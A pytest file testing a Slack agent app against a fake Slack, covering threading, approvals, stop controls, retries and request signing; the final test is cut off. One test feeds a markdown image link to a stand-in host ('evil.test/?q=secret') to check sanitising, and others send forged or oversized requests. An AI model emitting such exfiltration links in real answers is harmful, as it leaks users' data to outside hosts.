"""The Slack app against a fake Slack, over real HTTP and websockets."""

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import httpx2
import pytest
from mcp.server.mcpserver import MCPServer

from autonomy.chat.chat_service import ChatConfig, IncomingMessage
from autonomy.chat.slack import inbox_worker, live_answer
from autonomy.chat.slack.authorization import Authorization, SlackSettings
from autonomy.chat.slack.events.slack_event import BotIdentity, SlackMessage
from autonomy.chat.slack.slack_api import SlackAway
from autonomy.chat.slack.slack_app import SlackServices
from autonomy.cli.commands import serve
from autonomy.errors import ConfigError, ModelUnavailable, StoreError
from autonomy.llm.messages import AssistantMessage, UserMessage
from autonomy.llm.model import ModelRequest, OnText
from autonomy.llm.scripted import ScriptedModel, calling
from autonomy.run_state.run_values import RunRequest, RunResult
from metrics import events
from tests.requirements import requirement
from tests.support.house import OUTWARD, READ
from tests.support.sampling import in_part
from tests.support.slack import Slack
from tests.support.slack_house import hurried, slack_house


@pytest.fixture
def answered_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """However long a busy machine takes for an answer, it counts as a quick one, which is posted whole."""
    monkeypatch.setattr(live_answer, "FIRST_AFTER_S", 3_600.0)


def weather(gate: anyio.Event | None = None) -> MCPServer[Any]:
    server: MCPServer[Any] = MCPServer("weather")

    @server.tool(annotations=READ)
    async def get_weather(location: str) -> str:
        """The weather of a place."""
        if gate is not None:
            await gate.wait()
        return f"{location}: 晴れ <!channel>"

    return server


def board(posted: list[str]) -> MCPServer[Any]:
    server: MCPServer[Any] = MCPServer("board")

    @server.tool(annotations=OUTWARD)
    def post(text: str) -> str:
        """Post to the board."""
        posted.append(text)
        return "posted"

    return server


ASK = calling(("weather_get_weather", {"location": "東京"}))


@requirement("C4")
async def test_a_mention_without_words_asks_what_can_be_asked(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, weather(), script=["天気です。"]) as here:
        await slack.answer_in(general, await slack.mention(general, haruka, ""))
        (request,) = here.house.model.requests
    assert request.messages[1].text.startswith("何ができますか")


@requirement("C6")
async def test_slack_is_reached_directly_where_no_proxy_is_to_be_used(
    slack: Slack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for variable in ("HTTP_PROXY", "HTTPS_PROXY"):
        monkeypatch.setenv(variable, "http://127.0.0.1:9")
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, script=["はい。"]):
        await slack.answer_in(general, await slack.mention(general, haruka, "やあ"))


@requirement("C4", "C6")
async def test_a_mention_is_answered_once_in_its_thread_although_it_comes_as_two_events(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, weather(), script=[ASK, "東京は晴れです。"]) as here:
        ts = await slack.mention(general, haruka, "東京の天気を教えて", twice=True)
        answer = await slack.answer_in(general, ts)
        await slack.until(lambda: all(one.acknowledged_at for one in slack.envelopes))
    assert slack.words(answer) == "東京は晴れです。"
    assert len(slack.thread(general, ts)) == 1
    assert len(here.house.model.requests) == 2
    assert [status[1:] for status in slack.statuses] == [(general, ts, "考えています…")]


async def test_a_run_knows_under_which_id_its_earlier_answers_stand(
    slack: Slack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    haruka, general, requests = slack.add_user("haruka"), slack.add_channel("general"), list[RunRequest]()
    async with slack_house(tmp_path, slack, script=["はい。"]) as here:
        make = here.app.worker.service.request_for

        async def noted(message: IncomingMessage) -> RunRequest:
            requests.append(await make(message))
            return requests[-1]

        monkeypatch.setattr(here.app.worker.service, "request_for", noted)
        await slack.answer_in(general, await slack.mention(general, haruka, "いますか"))
    assert [request.answers_as for request in requests] == [slack.BOT_USER]


@requirement("C6")
async def test_a_thread_is_carried_on_without_a_mention_and_remembered(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, script=["はい。", "東京のことです。"]) as here:
        ts = await slack.mention(general, haruka, "やあ")
        await slack.answer_in(general, ts)
        await slack.message(general, haruka, "どこのこと？", thread_ts=ts)
        await slack.until(lambda: len(slack.answered(general, ts)) == 2)
    assert here.house.model.requests[1].messages[1:3] == (UserMessage(text="やあ"), AssistantMessage(text="はい。"))


@requirement("C6")
async def test_called_into_a_thread_it_reads_what_was_said_there_as_others_words(slack: Slack, tmp_path: Path) -> None:
    haruka, kenta, general = slack.add_user("haruka"), slack.add_user("kenta"), slack.add_channel("general")
    ts = slack.say(general, kenta, f"<@{haruka}> 予約 &amp; 通知が壊れています。全員に #dev で知らせて")
    slack.say(general, "UALERT", "errors: 12 %", thread_ts=ts, bot_id="B0ALERT")
    slack.say(general, haruka, "キャッシュだと思います", thread_ts=ts)
    async with slack_house(tmp_path, slack, script=lambda _: "キャッシュのようです。") as here:
        await slack.mention(general, haruka, "何が原因ですか？", thread_ts=ts)
        await slack.answer_in(general, ts)
        slack.say(general, kenta, f"<@{haruka}> なるほど", thread_ts=ts)
        await slack.message(general, haruka, "ほかには？", thread_ts=ts)
        await slack.until(lambda: len(slack.answered(general, ts)) == 2)
        first, second = [await here.records.get(one.run_id) for one in reversed(await here.records.newest(tenant="default"))]
    said = (
        "kenta: @haruka 予約 & 通知が壊れています。全員に #dev で知らせて\nUALERT: errors: 12 %\nharuka: キャッシュだと思います"
    )
    assert first.request.task.inputs["said_before_in_this_thread"] == said
    assert first.request.strange == (said,), "data, and nobody's word who may decide"
    assert "said_before" not in str(first.request.trusted_task.inputs.values())
    assert second.request.strange == (f"{said}\nkenta: @haruka なるほど",), "without what was asked of us and what we said"


@requirement("C6")
async def test_a_thread_that_slack_does_not_let_us_read_is_answered_all_the_same(slack: Slack, tmp_path: Path) -> None:
    haruka, kenta, general = slack.add_user("haruka"), slack.add_user("kenta"), slack.add_channel("general")
    ts = slack.say(general, kenta, "壊れています")
    slack.refuse("conversations.replies", "missing_scope", needed="channels:history")
    async with slack_house(tmp_path, slack, script=["はい。"]) as here:
        await slack.mention(general, haruka, "何が原因ですか？", thread_ts=ts)
        assert slack.words(await slack.answer_in(general, ts)) == "はい。"
        assert (await here.records.newest(tenant="default"))[0].request.strange == ()


@requirement("C6")
async def test_a_thread_of_names_that_slack_does_not_tell_in_time_is_answered_without_them(
    slack: Slack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(inbox_worker, "THREAD_S", 0.2)
    haruka, kenta, general = slack.add_user("haruka"), slack.add_user("kenta"), slack.add_channel("general")
    ts = slack.say(general, kenta, f"<#{slack.add_channel('dev')}> に書きました")
    slack.say(general, kenta, "壊れています", thread_ts=ts)
    slack.rate_limit("conversations.info", 20, times=5)
    async with slack_house(tmp_path, slack, script=["はい。"]) as here:
        await slack.mention(general, haruka, "何が原因ですか？", thread_ts=ts)
        assert slack.words(await slack.answer_in(general, ts)) == "はい。"
        assert (await here.records.newest(tenant="default"))[0].request.strange == ("kenta: 壊れています",)


async def test_what_is_said_to_others_is_left_alone(slack: Slack, tmp_path: Path) -> None:
    haruka, kenta, general = slack.add_user("haruka"), slack.add_user("kenta"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, script=["はい。"]) as here:
        ts = await slack.mention(general, haruka, "やあ")
        await slack.answer_in(general, ts)
        await slack.message(general, haruka, "おはよう")
        await slack.message(general, haruka, f"<@{kenta}> 見た？", thread_ts=ts)
        await slack.message(general, slack.BOT_USER, "はい。", thread_ts=ts, bot_id=slack.BOT_ID)
        await slack.message(general, "UBOT2", f"<@{slack.BOT_USER}> こんにちは", bot_id="B0OTHER")
        await slack.event({"type": "message", "subtype": "message_changed", "channel": general, "ts": "1.0"})
        await slack.until(lambda: all(one.acknowledged_at for one in slack.envelopes))
    assert len(here.house.model.requests) == 1
    assert len(slack.sent()) == 1


@requirement("Y3")
async def test_what_is_said_to_others_is_heard_by_jobs_unless_its_writer_may_not_use_the_app(
    slack: Slack, tmp_path: Path
) -> None:
    haruka, general, dev = slack.add_user("haruka"), slack.add_channel("general"), slack.add_channel("dev")
    heard = list[tuple[str, ...]]()

    async def hear(*told: str) -> None:
        heard.append(told)

    async with slack_house(tmp_path, slack, script=["はい。"], heard_elsewhere=hear, channels=[general]):
        ts = await slack.message(general, haruka, "v2 を deployed しました")
        await slack.message(dev, haruka, "ここは一覧にない")
        await slack.answer_in(general, await slack.mention(general, haruka, "やあ"))
    assert heard == [(general, ts, haruka, "v2 を deployed しました")]


@requirement("C6")
async def test_a_direct_message_needs_no_mention(slack: Slack, tmp_path: Path) -> None:
    haruka = slack.add_user("haruka")
    direct = slack.open_dm(haruka)
    async with slack_house(tmp_path, slack, script=["はい。"]):
        ts = await slack.message(direct, haruka, "やあ")
        assert slack.words(await slack.answer_in(direct, ts)) == "はい。"


@pytest.mark.parametrize("lists", [{"users": ("U9",)}, {"channels": ("C9",)}, {"teams": ()}])
@requirement("C6")
async def test_who_or_where_is_not_on_the_lists_is_not_worked_for(slack: Slack, tmp_path: Path, lists: dict[str, Any]) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    guest = {"user_team": "T9GUEST"} if "teams" in lists else {}
    async with slack_house(tmp_path, slack, **lists) as here:
        said = {"user": haruka, "text": f"<@{slack.BOT_USER}> やあ", "ts": slack.new_ts(), "channel": general}
        await slack.event({**said, "type": "app_mention", "team": slack.TEAM_ID, **guest}, twice=True)
        await slack.until(lambda: all(one.acknowledged_at for one in slack.envelopes))
        entry = await here.app._inbox.get(f"slack-{general}-{said['ts']}")
        (told,) = await slack.until(lambda: slack.whispers)
    assert entry is not None
    assert entry.state == "refused"
    assert (here.house.model.requests, slack.sent(), slack.statuses) == ([], [], [])
    assert told["user"] == haruka, "and nobody else reads why"
    assert ("このチャンネル" if "channels" in lists else "決められた人だけ") in told["text"]
    assert not told.get("thread_ts"), "in a thread that has no answer yet Slack shows nothing to one person"


@requirement("C6")
async def test_who_may_not_ask_is_told_so_in_a_thread_when_he_calls_us_and_not_when_he_talks_to_others(
    slack: Slack, tmp_path: Path
) -> None:
    haruka, stranger, general = slack.add_user("haruka"), slack.add_user("stranger"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, script=["はい。", "ええ。"], users=(haruka,)) as here:
        ts = await slack.mention(general, haruka, "やあ")
        await slack.answer_in(general, ts)
        await slack.message(general, stranger, "お昼にしませんか", thread_ts=ts)
        await slack.mention(general, stranger, "答えて", thread_ts=ts)
        (told,) = await slack.until(lambda: slack.whispers)
        await slack.message(general, haruka, "何と言われましたか", thread_ts=ts)
        await slack.until(lambda: len(slack.answered(general, ts)) == 2)
        (newest, *_) = await here.records.newest(tenant="default")
    assert (told["user"], told["thread_ts"]) == (stranger, ts)
    assert newest.request.strange == ("stranger: お昼にしませんか\nstranger: @jiritsu 答えて",)


@requirement("C6")
async def test_progress_is_a_stream_of_task_cards_that_ends_with_the_answer(slack: Slack, tmp_path: Path) -> None:
    haruka, general, gate = slack.add_user("haruka"), slack.add_channel("general"), anyio.Event()
    server = weather(gate)

    @server.tool(title="空を見上げる", annotations=READ)
    def look_up() -> str:
        """The sky."""
        return "青い"

    both = calling(("weather_get_weather", {"location": "東京"}), ("weather_look_up", {}))
    async with slack_house(tmp_path, slack, server, script=[both, "東京は晴れです。"]):
        ts = await slack.mention(general, haruka, "東京の天気を教えて")
        (growing,) = await slack.until(lambda: slack.thread(general, ts))
        assert next(task["status"] for task in growing["tasks"].values()) == "in_progress"
        gate.set()
        answer = await slack.answer_in(general, ts)
    assert answer["ts"] == growing["ts"]
    told = [(task["title"], task["status"]) for task in answer["tasks"].values()]
    assert told == [("天気予報を見る", "complete"), ("空を見上げる", "complete")]
    assert slack.words(answer) == "東京は晴れです。"
    assert slack.streaming == set()


@requirement("C6")
@pytest.mark.parametrize(
    "trouble", in_part(["expired", "no streams", "start lost", "start lost before", "stop lost", "stop lost before"], every=2)
)
async def test_whatever_becomes_of_the_stream_the_answer_stands_there_once(slack: Slack, tmp_path: Path, trouble: str) -> None:
    haruka, general, gate = slack.add_user("haruka"), slack.add_channel("general"), anyio.Event()
    match trouble:
        case "no streams":
            slack.refuse("chat.startStream", "unknown_method", times=5)
        case "start lost" | "start lost before":
            slack.lose_answer("chat.startStream", carried_out=trouble == "start lost")
        case "stop lost" | "stop lost before":
            slack.lose_answer("chat.stopStream", carried_out=trouble == "stop lost")
    async with slack_house(tmp_path, slack, weather(gate), script=[ASK, "東京は晴れです。"]):
        ts = await slack.mention(general, haruka, "東京の天気を教えて")
        await slack.until(lambda: slack.thread(general, ts))
        if trouble == "expired":
            slack.expire_streams()
        gate.set()
        answer = await slack.answer_in(general, ts)
        await slack.until(lambda: not slack.streaming)
    assert slack.words(answer).endswith("東京は晴れです。")
    assert slack.words(answer).count("東京は晴れです。") == 1
    assert len(slack.thread(general, ts)) == 1


@requirement("C6")
@pytest.mark.parametrize("carried_out", [True, False])
@pytest.mark.usefixtures("answered_at_once")
async def test_a_post_whose_answer_is_lost_is_looked_up_before_it_is_sent_again(
    slack: Slack, tmp_path: Path, carried_out: bool
) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    slack.lose_answer("chat.postMessage", carried_out=carried_out)
    async with slack_house(tmp_path, slack, script=["はい。"]):
        ts = await slack.mention(general, haruka, "やあ")
        await slack.answer_in(general, ts)
    assert len(slack.thread(general, ts)) == 1
    assert len([call for call in slack.calls if call.method == "chat.postMessage"]) == (1 if carried_out else 2)


@requirement("C6")
@pytest.mark.usefixtures("answered_at_once")
async def test_an_error_after_which_it_may_have_been_posted_is_looked_up_too(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    slack.refuse("chat.postMessage", "fatal_error")
    async with slack_house(tmp_path, slack, script=["はい。"]):
        ts = await slack.mention(general, haruka, "やあ")
        await slack.answer_in(general, ts)
    assert len(slack.thread(general, ts)) == 1
    assert [call.method for call in slack.calls].count("conversations.replies") == 3


@requirement("C6")
@pytest.mark.usefixtures("answered_at_once")
async def test_when_nobody_can_tell_whether_it_was_posted_the_request_shows_it(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    slack.lose_answer("chat.postMessage")
    slack.refuse("conversations.replies", "missing_scope", times=5)
    async with slack_house(tmp_path, slack, script=["はい。"]) as here:
        ts = await slack.mention(general, haruka, "やあ")
        (said,) = slack.messages(general)[:1]
        await slack.until(lambda: said.get("reactions"))
        entry = await here.app._inbox.get(f"slack-{general}-{ts}")
    assert entry is not None
    assert entry.state == "unknown"
    assert [reaction["name"] for reaction in said["reactions"]] == ["warning"]
    assert len(slack.thread(general, ts)) == 1


@pytest.mark.usefixtures("answered_at_once")
async def test_a_rate_limit_is_waited_out(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    slack.rate_limit("chat.postMessage", 10)
    async with slack_house(tmp_path, slack, script=["はい。"]):
        ts = await slack.mention(general, haruka, "やあ")
        assert slack.words(await slack.answer_in(general, ts)) == "はい。"
    first, second = [call.at for call in slack.calls if call.method == "chat.postMessage"]
    assert second - first >= 10 / 20


async def test_a_sign_of_life_is_a_reaction_where_there_is_no_status(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    slack.refuse("assistant.threads.setStatus", "unknown_method")
    async with slack_house(tmp_path, slack, script=["はい。"]):
        await slack.mention(general, haruka, "やあ")
        (said,) = slack.messages(general)[:1]
        await slack.until(lambda: said.get("reactions"))
    assert said["reactions"][0]["name"] == "eyes"


@requirement("S3", "C6")
@pytest.mark.usefixtures("answered_at_once")
async def test_nothing_that_a_tool_or_a_model_says_mentions_pings_or_is_previewed(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    evil = "<!channel> <@U1> ![x](https://evil.test/?q=secret) https://evil.test"
    async with slack_house(tmp_path, slack, script=[evil]):
        ts = await slack.mention(general, haruka, "やあ")
        answer = await slack.answer_in(general, ts)
    (sent,) = [call for call in slack.calls if call.method == "chat.postMessage"]
    said = json.dumps([answer["text"], answer["blocks"]])
    assert "<!" not in said
    assert "<@" not in said
    assert "![" not in said
    flags = [sent.get(name) for name in ("unfurl_links", "unfurl_media", "link_names", "parse")]
    assert flags == [False, False, False, "none"]


@requirement("C6")
async def test_a_long_answer_is_split_at_slacks_limits_and_complete(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    text = "\n".join(f"{number}行目 & つづき" for number in range(2000))
    async with slack_house(tmp_path, slack, script=[text]):
        ts = await slack.mention(general, haruka, "全部教えて")
        await slack.answer_in(general, ts)
    parts = [slack.words(part) for part in slack.thread(general, ts)]
    assert all(len(part) <= 12_000 for part in parts)
    assert "\n".join(parts) == text.replace("&", "&amp;")
    assert len(slack.answered(general, ts)) == 1


@requirement("C6", "S4")
async def test_a_write_is_asked_for_with_buttons_and_done_when_the_one_who_asked_approves(slack: Slack, tmp_path: Path) -> None:
    haruka, kenta, general = slack.add_user("haruka"), slack.add_user("kenta"), slack.add_channel("general")
    posted: list[str] = []
    script = [calling(("board_post", {"text": "<!here> やあ"})), "書き込みの操作は終わりです。"]
    async with slack_house(tmp_path, slack, board(posted), script=script) as here:
        ts = await slack.mention(general, haruka, "掲示板に書いて")
        question = await slack.until(
            lambda: next(
                (one for one in slack.thread(general, ts) if "jiritsu_approve" in json.dumps(one.get("blocks", ""))), None
            )
        )
        assert "text: <!here> やあ" in slack.words(question)  # plain text: shown, not acted upon
        assert {block["text"]["type"] for block in question["blocks"] if block["type"] == "section"} == {"plain_text"}
        await slack.press(general, question, "jiritsu_approve", kenta)
        await slack.until(lambda: slack.whispers)
        assert posted == []
        await slack.press(general, question, "jiritsu_approve", haruka, value=f"{here_value(question)}0")
        await slack.until(lambda: len(slack.whispers) == 2)
        assert posted == []
        approval_id, _, _ = here_value(question).partition(":")
        for unbound in (approval_id, f"{approval_id}:"):  # a press that says nothing of what was shown
            await slack.press(general, question, "jiritsu_approve", haruka, value=unbound)
        await slack.until(lambda: len(slack.whispers) == 4)
        assert posted == []
        await slack.press(general, question, "jiritsu_approve", haruka)
        await slack.answer_in(general, ts)
        await slack.until(lambda: "承認しました" in slack.words(question))
        await slack.press(general, question, "jiritsu_deny", haruka, value=here_value(question) or "x")
    assert posted == ["<!here> やあ"]
    (answered,) = here.house.written.of(events.ApprovalAnswered)
    assert (answered.answer, answered.by) == ("granted", haruka)
    assert [block for block in question["blocks"] if block["type"] == "actions"] == []


def here_value(question: dict[str, Any]) -> str:
    """What the first button of a question carries."""
    values = [one["value"] for block in question.get("blocks", []) for one in block.get("elements", []) if "value" in one]
    return str(values[0]) if values else ""


@requirement("S4")
async def test_only_approvers_may_approve_where_the_operator_names_them(slack: Slack, tmp_path: Path) -> None:
    haruka, boss, general = slack.add_user("haruka"), slack.add_user("boss"), slack.add_channel("general")
    posted: list[str] = []
    script = [calling(("board_post", {"text": "やあ"})), "やめておきます。"]
    async with slack_house(tmp_path, slack, board(posted), script=script, approvers=(boss,)):
        ts = await slack.mention(general, haruka, "掲示板に書いて")
        question = await slack.until(lambda: next((one for one in slack.thread(general, ts) if here_value(one)), None))
        await slack.press(general, question, "jiritsu_approve", haruka)
        await slack.until(lambda: slack.whispers)
        await slack.press(general, question, "jiritsu_approve", boss, team="T9GUEST")
        await slack.until(lambda: len(slack.whispers) == 2)
        await slack.press(general, question, "jiritsu_deny", boss)
        await slack.answer_in(general, ts)
    assert posted == []


@requirement("C6")
def test_whoever_was_taken_off_the_list_stops_no_run_any_more_and_an_approver_does() -> None:
    settings = SlackSettings(users=("U1",), approvers=("U9",))
    lists = Authorization(settings, BotIdentity(user_id="U0BOT"))
    assert [lists.may_stop(user, asked_for_by=by) for user, by in (("U1", "U1"), ("U2", "U2"), ("U1", "U2"), ("U9", "U2"))] == [
        True, False, False, True,
    ]  # fmt: skip


@requirement("C6")
async def test_stop_ends_the_run_and_says_so(slack: Slack, tmp_path: Path) -> None:
    haruka, kenta, general = slack.add_user("haruka"), slack.add_user("kenta"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, weather(anyio.Event()), script=[ASK]) as here:
        ts = await slack.mention(general, haruka, "東京の天気を教えて")
        await slack.until(lambda: slack.thread(general, ts))
        stopped = await slack.stop_agent(general, ts, kenta)
        await slack.until(lambda: stopped.acknowledged_at)
        assert not slack.answered(general, ts)
        await slack.stop_agent(general, ts, haruka)
        answer = await slack.answer_in(general, ts)
    assert slack.words(answer) == "中止しました。"
    assert [(task["status"], task["details"]) for task in answer["tasks"].values()] == [("error", "中止しました")]
    assert [event.by for event in here.house.written.of(events.Intervention)] == [haruka]


async def test_thumbs_become_an_event_of_the_run_but_those_of_whoever_may_not_ask(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, script=["はい。"]) as here:
        ts = await slack.mention(general, haruka, "やあ")
        answer = await slack.answer_in(general, ts)
        (buttons,) = [block["elements"][0] for block in answer["blocks"] if block["type"] == "context_actions"]
        await slack.press(general, answer, "jiritsu_feedback", haruka, value=buttons["negative_button"]["value"])
        await slack.until(lambda: slack.whispers)
        await slack.press(general, answer, "jiritsu_feedback", haruka, value=buttons["positive_button"]["value"])
        await slack.until(lambda: len(slack.whispers) == 2)
        stranger = slack.add_user("stranger")
        await slack.press(
            general, answer, "jiritsu_feedback", stranger, team="T9GUEST", value=buttons["positive_button"]["value"]
        )
        await slack.until(lambda: len(slack.whispers) == 3)
        guest = slack.add_user("guest", is_restricted=True)
        await slack.press(general, answer, "jiritsu_feedback", guest, value=buttons["positive_button"]["value"])
        await slack.until(lambda: len(slack.whispers) == 4)
    told = here.house.written.of(events.FeedbackGiven)
    assert [(one.run_id, one.by, one.good) for one in told] == [(f"slack-{general}-{ts}", haruka, good) for good in (False, True)]
    assert len({one.key for one in told}) == 2


@pytest.mark.parametrize(
    ("language", "first"), [("ja", "東京の今日の天気を教えて"), ("en", "What is the weather in Tokyo today?")]
)
async def test_whoever_opens_the_conversation_is_given_suggestions_in_his_language(
    slack: Slack, tmp_path: Path, language: Any, first: str
) -> None:
    haruka = slack.add_user("haruka")
    async with slack_house(tmp_path, slack, ways=ChatConfig(language=language)):
        home = {"type": "app_home_opened", "user": haruka, "channel": slack.open_dm(haruka)}
        await slack.event({**home, "tab": "home"})
        await slack.event({**home, "tab": "messages"})
        await slack.until(lambda: slack.prompts)
    assert len(slack.prompts) == 1
    assert slack.prompts[0]["prompts"][0]["message"] == first


@requirement("C6")
@pytest.mark.parametrize("politely", [True, False])
async def test_what_was_said_while_the_socket_was_down_is_answered_after_it_is_back(
    slack: Slack, tmp_path: Path, politely: bool
) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, script=["はい。"]):
        await slack.drop_sockets(politely=politely)
        ts = await slack.mention(general, haruka, "やあ")
        await slack.answer_in(general, ts)
    assert slack.connections >= 2
    assert len(slack.thread(general, ts)) == 1


@requirement("C6")
@pytest.mark.usefixtures("answered_at_once")
async def test_what_a_process_left_unanswered_the_next_one_answers_once(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    slack.refuse("chat.postMessage", "not_in_channel", times=3)
    async with slack_house(tmp_path, slack, script=["はい。"]) as here:
        ts = await slack.mention(general, haruka, "やあ")
        said = slack.messages(general)[0]
        await slack.until(lambda: any(one["name"] == "warning" for one in said.get("reactions", [])))
        await here.app._inbox.move(f"slack-{general}-{ts}", "working")  # as if the process had died on the way
    slack._faults.clear()
    async with slack_house(tmp_path, slack) as again:
        answer = await slack.answer_in(general, ts)
    assert slack.words(answer) == "はい。"  # the run had ended: its result is on record, no model is asked again
    assert again.house.model.requests == []


@requirement("C6")
async def test_what_is_asked_while_the_database_is_away_is_answered_once_when_it_is_back(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")

    async def away(*_args: Any, **_named: Any) -> Any:
        raise StoreError("the database cannot be used")

    async with slack_house(tmp_path, slack, script=["はい。", "はい、もう一度。"]) as here:
        worker = here.app.worker
        known, move = worker.posts.known, worker.inbox.move
        worker.posts.known, worker.inbox.move = away, away  # type: ignore[method-assign]
        ts = await slack.mention(general, haruka, "やあ")
        said = slack.messages(general)[0]
        await slack.until(lambda: any(one["name"] == "warning" for one in said.get("reactions", [])))
        worker.posts.known, worker.inbox.move = known, move  # type: ignore[method-assign]
        await slack.until(lambda: any("はい。" in slack.words(one) for one in slack.thread(general, ts)))
        await slack.answer_in(general, await slack.mention(general, haruka, "もう一度"))
        assert len(slack.thread(general, ts)) == 1
        assert len(here.house.model.requests) == 2, "the first run had ended: its result is on record"


@requirement("C6")
async def test_a_run_that_the_database_interrupted_is_answered_when_it_has_gone_on(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    async with slack_house(tmp_path, slack, script=["はい。"]) as here:
        runs, begun = here.app.worker.service.runs, list[str]()
        run = runs.run

        async def interrupted(request: RunRequest) -> RunResult:
            begun.append(request.run_id)
            if len(begun) < 3:
                raise StoreError("the run was interrupted: the database is locked")
            return await run(request)

        runs.run = interrupted  # type: ignore[method-assign]
        ts = await slack.mention(general, haruka, "やあ")
        answer = await slack.answer_in(general, ts)
    assert slack.words(answer) == "はい。"
    assert begun == [f"slack-{general}-{ts}"] * 3
    assert [one["name"] for one in slack.messages(general)[0].get("reactions", [])] == ["warning"]


@requirement("C6")
async def test_over_http_only_what_slack_signed_is_taken(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
    said = {
        "type": "app_mention",
        "user": haruka,
        "text": "<@U0BOT> やあ",
        "ts": slack.say(general, haruka, "やあ"),
        "channel": general,
    }
    body = json.dumps({"type": "event_callback", "team_id": slack.TEAM_ID, "event_id": "Ev1", "event": said})
    async with slack_house(tmp_path, slack, script=["はい。"], listen=False) as here:
        transport = httpx2.ASGITransport(here.app.web_app())
        async with httpx2.AsyncClient(transport=transport, base_url="http://us.test") as client:
            headers = [slack.signed(body, secret="guessed"), slack.signed(body, at=slack.clock() - 600), slack.signed(body)]
            codes = [(await client.post("/slack/events", content=body, headers=one)).status_code for one in headers]
            for name, odd in (("timestamp", "9" * 5000), ("timestamp", "nan"), ("timestamp", "\u00b2"), ("signature", "\u00e9")):
                of_bytes = {key: (odd if name in key.lower() else value).encode("latin-1") for key, value in headers[2].items()}
                assert (await client.post("/slack/events", content=body, headers=of_bytes)).status_code == 401, (name, odd[:9])
            again = {**slack.signed(body), "X-Slack-Retry-Num": "1", "X-Slack-Retry-Reason": "http_timeout"}
            codes.append((await client.post("/slack/events", content=body, headers=again)).status_code)
        await slack.answer_in(general, said["ts"])
    assert codes == [401, 401, 200, 200]
    assert len(slack.thread(general, said["ts"])) == 1


@requirement("C6")
async def test_over_http_what_is_no_event_is_refused_and_of_a_stranger_not_even_read(slack: Slack, tmp_path: Path) -> None:
    odd = ["{", "[1]", "null", "[" * 100_000, '{"user": 5}', '{"enterprise": 5, "team": 5}', '{"authorizations": [5]}']
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    async with slack_house(tmp_path, slack, script=[], listen=False) as here:
        transport = httpx2.ASGITransport(here.app.web_app())
        async with httpx2.AsyncClient(transport=transport, base_url="http://us.test") as client:
            for body, more in [*((one, {}) for one in odd), ("payload=%7B", form), ("payload=[]", form)]:
                for secret, code in (("", 400), ("guessed", 401)):
                    headers = slack.signed(body, secret=secret) | more
                    assert (await client.post("/slack/events", content=body, headers=headers)).status_code == code, body[:30]
            latin = await client.post("/slack/events", content=b"\xff\xfe", headers=slack.signed("{}"))
    assert latin.status_code == 400


@requirement("C6")
async def test_over_http_a_stranger_cannot_have_a_body_of_any_size_kept_in_memory(slack: Slack, tmp_path: Path) -> None:
    sent = 0

    async def endless() -> AsyncIterator[bytes]:
        nonlocal sent
        while sent < 100_000_000:
            sent += 1_000_000
            yield b"a" * 1_000_000

    async with slack_house(tmp_path, slack, script=[], listen=False) as here:
        transport = httpx2.ASGITransport(here.app.web_app())
        async with httpx2.AsyncClient(transport=transport, base_url="http://us.test") as client:
            refused = await client.post("/slack/events", content=endless(), headers=slack.signed("{}", secret="guessed"))
    assert (refused.status_code, sent <= 6_000_000) == (413, True)


async def test_a_token_that_slack_does_not_take_is_named(slack: Slack, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"SLACK_BOT_TOKEN.*invalid_auth"):
        async with slack_house(tmp_path, slack, bot_token="xoxb-old"):
            pass


@requirement("C6")
async def test_requests_of_one_thread_are_answered_in_order_and_know_each_other(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")

    def count(request: ModelRequest) -> str:
        return f"{len(request.messages) - 1}個"

    async with slack_house(tmp_path, slack, script=count):
        ts = await slack.mention(general, haruka, "一")
        await slack.message(general, haruka, f"<@{slack.BOT_USER}> 二", thread_ts=ts)
        await slack.message(general, haruka, f"<@{slack.BOT_USER}> 三", thread_ts=ts)
        await slack.until(lambda: len(slack.answered(general, ts)) == 3)
    assert [slack.words(one) for one in slack.thread(general, ts)] == ["1個", "3個", "5個"]


async def test_two_bots_that_answer_each_other_come_to_an_end(slack: Slack, tmp_path: Path) -> None:
    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
